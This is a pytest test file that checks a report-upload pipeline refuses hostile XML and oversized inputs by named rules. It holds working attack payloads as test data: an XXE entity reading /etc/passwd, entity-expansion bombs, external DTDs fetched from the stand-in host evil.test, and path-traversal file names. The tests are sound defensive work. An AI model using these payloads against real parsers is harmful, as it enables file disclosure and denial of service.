"""What hostile uploads try: each is refused by name or bounded, and costs little."""

from __future__ import annotations

import io
from typing import Any
from unittest import mock

import pytest

from pipelines.reports.formats import junit
from pipelines.reports.formats.base import ReportRefused, Source, TooLarge
from pipelines.reports.formats.registry import Kind, read

XXE = '<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><testsuite name="&x;"/>'
LAUGHS = (
    '<!DOCTYPE t [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    "<testsuite><testcase name='x'><failure>&b;</failure></testcase></testsuite>"
)
PARAMETER = '<!DOCTYPE t [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]><testsuite/>'
UNDECLARED = '<!DOCTYPE t SYSTEM "http://evil.test/x.dtd"><testsuite>&x;</testsuite>'


def refused(data: bytes | str, kind: Kind = Kind.JUNIT) -> ReportRefused:
    with pytest.raises(ReportRefused) as caught:
        read(kind, io.BytesIO(data.encode() if isinstance(data, str) else data))
    return caught.value


@pytest.mark.parametrize("text", [XXE, LAUGHS, PARAMETER, UNDECLARED])
@pytest.mark.parametrize("kind", [Kind.JUNIT, Kind.CYCLONEDX])
def test_entities_are_refused(text: str, kind: Kind) -> None:
    swapped = text.replace("testsuite", "bom") if kind is Kind.CYCLONEDX else text
    found = refused(swapped, kind)
    assert (found.rule, found.message) == ("entity", "The XML declares or uses an entity.")


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (b"<testsuite><testcase name='\xff\xfe'/></testsuite>", "encoding"),
        (b"<?xml version='1.0' encoding='no-such'?><testsuite/>", "encoding"),
        (b"<testsuite>\x1b[31m</testsuite>", "xml"),
        (b"<testsuite><testcase></testsuite>", "xml"),
        (b"<testsuite>", "xml"),
        (b"", "xml"),
        (b"<html/>", "root"),
        (b"<testsuite>" * 70, "depth"),
        (b"<testsuite><testcase name='a' file='../../etc/passwd'/></testsuite>", "path"),
        (b"<testsuite><testcase name='a' file='..\\\\x'/></testsuite>", "path"),
        (b"<testsuite><testcase file='" + b"a" * 600 + b"'/></testsuite>", "path"),
        (b"<testsuite><testcase name='" + b"a" * 3_000_000 + b"'/></testsuite>", "tag"),
    ],
)
def test_xml_is_refused_by_the_rule_that_it_breaks(data: bytes, rule: str) -> None:
    assert refused(data).rule == rule


def test_the_message_says_where_bytes_are_no_utf_8() -> None:
    found = refused(b"<testsuite>\n<testcase name='\xff'/></testsuite>")
    assert found.message == "The report is not UTF-8 (line 2, column 17)."


def test_another_encoding_is_read_where_the_document_says_so() -> None:
    text = "<?xml version='1.0' encoding='ISO-8859-1'?><testsuite><testcase name='ä'/></testsuite>"
    found = junit.read(Source(io.BytesIO(text.encode("latin-1"))))
    assert found.cases[0].name == "ä"


class Endless:
    """Ten gigabytes that nobody holds."""

    def __init__(self, head: bytes, block: bytes) -> None:
        self.head, self.block, self.given = head, block, 0

    def read(self, size: int = -1) -> bytes:
        self.given += 1
        return self.head if self.given == 1 else self.block


@pytest.mark.parametrize(
    ("kind", "head", "block"),
    [
        (Kind.JUNIT, b"<testsuite>", b" " * 65536),
        (Kind.LCOV, b"SF:a\n", b"LF:" + b"1" * 60_000 + b"\n"),
        (Kind.SARIF, b"{", b" " * 65536),
        (Kind.METRICS, b"# HELP\n", b"# HELP\n" * 100),
    ],
)
def test_ten_gigabytes_end_at_the_bound(kind: Kind, head: bytes, block: bytes) -> None:
    endless: Any = Endless(head, block)
    with pytest.raises(ReportRefused) as caught:
        read(kind, endless)
    assert caught.value.rule in {"size", "lines", "json"}
    assert endless.given < 3000


def test_too_much_is_413_and_says_the_bound() -> None:
    endless: Any = Endless(b"<testsuite>", b" " * 65536)
    with pytest.raises(TooLarge, match="at most 50 MB") as caught:
        read(Kind.JUNIT, endless)
    assert caught.value.status == 413


def test_cases_beyond_the_bound_are_counted_and_red_ones_kept() -> None:
    rows = "".join(f"<testcase name='t{n}'/>" for n in range(30))
    text = f"<testsuite>{rows}<testcase name='red'><failure/></testcase></testsuite>"
    with mock.patch.object(junit, "MAX_CASES", 10):
        found = junit.read(Source(io.BytesIO(text.encode())))
    assert (found.total, len(found.cases), found.left_out) == (31, 11, 20)
    assert found.cases[-1].name == "red"


def test_very_many_cases_are_read_to_the_end() -> None:
    rows = b"".join(b"<testcase name='t%d'/>" % number for number in range(100_000))
    found = junit.read(Source(io.BytesIO(b"<testsuite>" + rows + b"</testsuite>")))
    assert (found.total, len(found.cases), found.left_out) == (100_000, 50_000, 50_000)
